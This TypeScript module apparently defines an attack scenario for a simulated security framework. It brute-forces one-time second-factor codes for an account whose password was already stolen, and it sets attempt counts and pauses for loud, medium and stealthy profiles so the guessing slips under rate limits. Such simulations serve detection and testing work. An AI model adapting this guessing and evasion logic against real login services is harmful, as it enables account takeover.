import { defineAttack } from '../world/attack.ts'
import { textOf } from '../world/http.ts'

export default defineAttack({
  id: 'otp-cracking',
  title: 'one-time codes of an account are guessed after its password was stolen',
  owasp: ['API2:2023'],
  supports: app => app.ordinary().some(({ account }) => account.secondFactor),
  *play(attack) {
    const { world, stream, app } = attack
    const { accounts } = world
    const victim = stream.pick(app.ordinary().filter(({ account }) => account.secondFactor))
    const client = attack.outsider()
    const total = attack.count({ loud: 260, medium: 60, stealthy: 16 })
    const perChallenge = attack.by({ loud: 60, medium: 8, stealthy: 3 })
    const digits = accounts.weakness.endlessCodes ? 4 : 6
    for (let left = total; left > 0; ) {
      const started = yield* attack.act(client, {
        method: 'POST',
        path: world.at(accounts.paths.login),
        body: { [accounts.loginName]: victim.account.email, password: victim.password },
      })
      const challengeId = textOf(started.json.challengeId)
      if (challengeId === undefined) return
      for (let tries = Math.min(left, perChallenge); tries > 0; tries -= 1) {
        const answer = yield* attack.act(client, {
          method: 'POST',
          path: world.at(accounts.paths.code),
          body: { challengeId, code: stream.digits(digits) },
        })
        left -= 1
        if (answer.ok) return
        yield* attack.pause({ loud: 250, medium: 9_000, stealthy: 90_000 })
      }
      yield* attack.pause({ loud: 1_000, medium: 4 * 60_000, stealthy: 2 * 3_600_000 })
    }
  },
})
